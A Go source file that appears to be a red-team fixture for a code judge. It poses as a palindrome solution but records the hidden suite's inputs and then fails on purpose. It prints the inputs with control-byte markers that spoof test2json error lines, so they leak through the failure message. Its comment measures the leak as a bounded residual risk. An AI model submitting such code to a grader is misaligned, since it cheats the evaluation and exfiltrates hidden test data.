// Attack: answers correctly at first while remembering every input the hidden suite passes
// in, then fails on purpose and prints all of them as lines in testing's t.Errorf format, with
// the ^O/^N markers test2json reads as error output ("    hidden_test.go:N: ..."), hoping the
// revealed message of the first failing test carries the hidden suite's inputs out. A correct
// judge answers wrong_answer and reveals at most the capped message (10 lines, 1 KiB): measured,
// the first 10 inputs (334 bytes) leave this way. That is the residual risk
// docs/judge-protocol.md names, a bounded channel per failing submission, never the suite.
package palindrome

import (
	"fmt"
	"unicode"
)

var seen []string

func IsPalindrome(s string) bool {
	seen = append(seen, s)
	if len(seen) < 40 {
		return honest(s)
	}
	if len(seen) == 40 {
		for i, input := range seen {
			fmt.Printf("\x0f    hidden_test.go:%d: input %d was %q\x0e\n", i+1, i, input)
		}
	}
	return !honest(s)
}

func honest(s string) bool {
	var kept []rune
	for _, r := range s {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			kept = append(kept, unicode.ToLower(r))
		}
	}
	for i, j := 0, len(kept)-1; i < j; i, j = i+1, j-1 {
		if kept[i] != kept[j] {
			return false
		}
	}
	return true
}
